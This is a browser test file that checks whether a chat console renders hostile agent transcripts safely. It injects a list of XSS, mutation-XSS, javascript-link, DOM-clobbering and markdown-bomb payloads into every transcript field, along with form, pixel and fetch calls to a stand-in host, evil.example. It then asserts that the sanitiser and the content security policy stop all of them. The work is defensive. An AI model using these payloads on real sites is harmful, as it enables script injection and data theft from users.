// A hostile transcript in a real browser: nothing in it runs, calls out, navigates or breaks the page.
import { expect, test } from 'vitest';
import type { ResponsePart } from '../../src/protocols/ahp/v1_0/state.ts';
import { useBrowser } from './console/browser.ts';
import { field, hostWith, openFromMenu, pageOf, session } from './console/rig.ts';
import { serve } from './console/served.ts';
import { chatState, chatUri, sessionState, summaryOf, turnOf } from './console/states.ts';

const browsing = useBrowser();

const run = "window.pwned=(window.pwned||0)+1;alert('x')";

const attacks = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<a href="javascript:${run}">raw link</a>`,
  `[script link](javascript:${encodeURIComponent(run)})`,
  '[entity link](&#106;avascript:alert(1))',
  '[tab link](java\tscript:alert(1))',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb link](vbscript:msgbox)',
  '[file link](file:///etc/passwd)',
  '![pixel](https://evil.example/pixel.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![quote" onerror="alert(1)](data:image/png;base64,AAAA"onerror="alert(1))',
  `<style>body{background:url(https://evil.example/css)}</style><link rel=stylesheet href=https://evil.example/a.css>`,
  `<form action=https://evil.example><input name=a><button id=steal>Sign in</button></form>`,
  `<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<div style="position:fixed;inset:0" class="app ask primary" id="app">cover</div>`,
  '<input type="text" name="getElementById"><form id="createElement"></form>',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  `- item\n\n  \`\`\`html\n  <script>alert(1)</script>\n  \`\`\``,
  '\u001b]0;title\u0007\u001b[31mred\u001b[0m \u202ereversed',
  'a'.repeat(200_000),
  `${'['.repeat(5000)}${']('.repeat(5000)}`,
  `${'> '.repeat(400)}deep`,
  '*a '.repeat(20_000),
];

test('a hostile transcript executes nothing', async () => {
  const host = hostWith();
  const parts: ResponsePart[] = [
    ...attacks.map((content, index): ResponsePart => ({ kind: 'markdown', id: `m${index}`, content })),
    ...attacks.map((content, index): ResponsePart => ({ kind: 'reasoning', id: `r${index}`, content })),
    ...attacks.map((markdown): ResponsePart => ({ kind: 'systemNotification', content: { markdown } })),
    ...attacks.map((text, index): ResponsePart => ({
      kind: 'toolCall',
      toolCall: {
        status: 'completed',
        toolCallId: `c${index}`,
        toolName: text.slice(0, 200),
        displayName: text.slice(0, 200),
        invocationMessage: { markdown: text },
        pastTenseMessage: { markdown: text },
        toolInput: JSON.stringify({ [text.slice(0, 100)]: text, oldText: text, newText: `${text} changed` }),
        confirmed: 'not-needed',
        success: false,
        error: { message: text },
        content: [
          { type: 'text', text },
          { type: 'embeddedResource', contentType: 'image/svg+xml', data: btoa(`<svg onload="${run}"/>`) },
          { type: 'embeddedResource', contentType: 'text/html', data: btoa(`<script>${run}</script>`) },
          { type: 'resource', uri: `javascript:${run}`, contentType: 'text/html' },
        ],
      },
    })),
    {
      kind: 'error',
      error: { errorType: attacks[0] ?? '', message: attacks[1] ?? '', stack: attacks[2] ?? '' },
    },
  ];
  const title = '<img src=x onerror=alert(1)>';
  const chat = chatUri(session);
  host.place(
    'session',
    session,
    sessionState(session, { title, activeClients: [{ clientId: 'x', displayName: title, tools: [] }] }),
  );
  host.list(summaryOf(session, { title, activity: title }));
  const turns = attacks.map((text, index) =>
    turnOf(`t${index}`, text, {
      responseParts: index === 0 ? parts : [],
      state: index === 0 ? 'error' : 'complete',
      message: {
        text,
        origin: { kind: text },
        attachments: [
          { type: 'resource', label: text.slice(0, 300), uri: `javascript:${run}` },
          {
            type: 'embeddedResource',
            label: 'p',
            contentType: 'image/svg+xml',
            data: btoa('<svg onload=alert(1)/>'),
          },
        ],
      },
    }),
  );
  host.place(
    'chat',
    chat,
    chatState(chat, {
      title,
      turns,
      queuedMessages: attacks.map((text, index) => ({
        id: `q${index}`,
        message: { text, origin: { kind: 'user' } },
      })),
    }),
  );
  const { address } = await serve(host);
  const { page, complaints } = await browsing.open(pageOf(address));
  await field(page).waitFor();
  // Everything is brought onto the screen and unfolded once.
  for (let step = 0; step < 12; step += 1) {
    await page.evaluate(`(() => {
      const scroller = document.querySelector('.chat');
      scroller.scrollTop = scroller.scrollHeight * ${step} / 11;
      document.querySelectorAll('details').forEach((details) => { details.open = true; });
    })()`);
    // Two frames later everything that comes near the screen is drawn.
    await page.evaluate('new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))');
  }
  await openFromMenu(page, 'Connected clients');
  await page.evaluate("document.querySelector('.chat').scrollTop = 0");
  await page.getByText('script link', { exact: true }).first().waitFor();

  expect(await page.evaluate('window.pwned')).toBeUndefined();
  const links = (await page.evaluate(
    "[...document.querySelectorAll('.transcript a[href]')].map((a) => [a.protocol, a.target, " +
      "a.rel].join(' '))",
  )) as string[];
  expect([...new Set(links)]).toEqual(['https: _blank noopener noreferrer']);
  expect(
    await page.evaluate(
      "document.querySelectorAll('script:not([src]), iframe, object, embed, base, style, .transcript " +
        'form[action], .transcript svg:not(.icon), .transcript [onerror], .transcript [onload], ' +
        ".transcript [style*=fixed]').length",
    ),
  ).toBe(0);
  const pictures = (await page.evaluate(
    "[...document.querySelectorAll('.transcript img')].map((img) => img.src.slice(0, 14))",
  )) as string[];
  expect(pictures.filter((source) => !source.startsWith('data:image/png'))).toEqual([]);
  expect(
    await page.evaluate(
      '[typeof document.getElementById, typeof document.createElement, ' +
        "document.querySelectorAll('#app').length].join()",
    ),
  ).toBe('function,function,1');
  await expect
    .poll(() => page.evaluate('document.documentElement.scrollWidth <= window.innerWidth'))
    .toBe(true);
  await expect.poll(() => page.title()).toBe(`${title} · project · Parley`);
  expect(page.url()).toContain(address);
  // The page still works.
  await page.getByRole('link', { name: 'Settings' }).click();
  await page.getByRole('heading', { name: 'Settings' }).waitFor();
  expect(complaints).toEqual([]);
}, 120_000);

test('the policy of the page stops what the sanitiser would let through', async () => {
  const { address } = await serve(hostWith());
  const { page } = await browsing.open(address);
  await page.getByText('First session').first().waitFor();
  const blocked = await page.evaluate(`new Promise((resolve) => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (event) => { seen.push(event.effectiveDirective); if (seen.length === 5) resolve(seen.sort()); });
    const script = document.createElement('script'); script.append('window.pwned = 1'); document.body.append(script);
    const style = document.createElement('style'); style.textContent = 'body { color: red }'; document.body.append(style);
    const image = new Image(); image.src = 'https://evil.example/a.png';
    fetch('https://evil.example/').catch(() => undefined);
    const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame);
  })`);
  expect(blocked).toEqual([
    ...['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'style-src-elem'],
  ]);
  await expect(page.evaluate("document.body.innerHTML = '<p>raw</p>'")).rejects.toThrow('TrustedHTML');
  expect(await page.evaluate('window.pwned')).toBeUndefined();
});

test('a part that makes no sense is left out, and the rest is shown', async () => {
  const broken = JSON.parse(
    '{"kind":"toolCall","toolCall":{"status":"completed","toolCallId":"c","success":false,"pastTenseMessage":"x","content":"no list"}}',
  ) as ResponsePart;
  const { address } = await serve(
    hostWith([
      { kind: 'markdown', id: 'a', content: 'Before it.' },
      broken,
      { kind: 'markdown', id: 'b', content: 'After it.' },
    ]),
  );
  const { page, complaints } = await browsing.open(pageOf(address));
  await page.getByText('This part cannot be shown').waitFor();
  await page.getByText('Before it.').waitFor();
  await page.getByText('After it.').waitFor();
  expect(complaints).toEqual([]);
});
